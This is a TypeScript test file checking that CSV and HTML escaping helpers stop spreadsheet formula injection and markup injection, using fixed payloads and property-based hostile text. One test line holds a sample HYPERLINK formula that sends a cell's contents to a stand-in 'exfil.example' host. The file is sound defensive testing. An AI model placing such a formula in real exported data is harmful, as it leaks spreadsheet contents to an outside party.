// Row 39: no cell starts a formula, no text becomes an element or leaves its attribute.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv, toCsvRow } from '#support/escape-csv.ts';
import { toHtml } from '#support/escape-html.ts';
import { hostileText } from '../doubles/hostile-text.ts';
import { injectionCases } from '../doubles/injection-cases.ts';
import { hiddenCharacters } from '../doubles/markdown-reader.ts';

/** Cells of one record, as RFC 4180 says. */
function readRow(row: string): string[] {
  const cells: string[] = [];
  let rest = row.replace(/\r\n$/, '');
  for (;;) {
    const [whole = '', quoted, plain = ''] = /^(?:"((?:[^"]|"")*)"|([^",]*))/.exec(rest) ?? [];
    cells.push(quoted?.replaceAll('""', '"') ?? plain);
    rest = rest.slice(whole.length);
    if (!rest.startsWith(',')) return rest === '' ? cells : [...cells, `unread: ${rest}`];
    rest = rest.slice(1);
  }
}

describe('a CSV cell', () => {
  it('is text for a spreadsheet, never a formula', () => {
    expect(toCsv('=HYPERLINK("https://exfil.example/?"&A1,"open")')).toBe(
      '"\'=HYPERLINK(""https://exfil.example/?""&A1,""open"")"',
    );
    for (const start of ['=', '+', '-', '@', '\t=', ' =', '＝', '|', '%', '\r=']) {
      expect(readRow(toCsvRow([`${start}1+1`]))[0]).toMatch(/^'/);
    }
  });

  it('leaves ordinary names alone', () => {
    expect(toCsvRow(['src/app.ts', 'high', '路径', 'a b'])).toBe('src/app.ts,high,路径,a b\r\n');
  });

  it('stays one cell of one row', () => {
    const check = (text: string) => {
      const cells = readRow(toCsvRow([text, 'end']));
      expect(cells).toHaveLength(2);
      expect(cells[1]).toBe('end');
      expect(cells[0]).not.toMatch(/^[\s]*[=+\-@]/);
      expect(hiddenCharacters(cells[0] ?? '')).toEqual([]);
    };
    for (const { payload } of injectionCases()) check(payload);
    fc.assert(fc.property(hostileText, check), { numRuns: 1000 });
  });
});

describe('HTML text', () => {
  it('holds no character that could open an element, an entity or an attribute', () => {
    const check = (text: string) => {
      const html = toHtml(text);
      expect(html.replace(/&(?:amp|lt|gt|quot|#39|#96|#61);/g, '')).not.toMatch(/[<>&"'`=]/);
      expect(hiddenCharacters(html)).toEqual([]);
    };
    for (const { payload } of injectionCases()) check(payload);
    fc.assert(fc.property(hostileText, check), { numRuns: 1000 });
  });

  it('shows the letters that were given', () => {
    expect(toHtml('a < b && "c"')).toBe('a &lt; b &amp;&amp; &quot;c&quot;');
  });
});
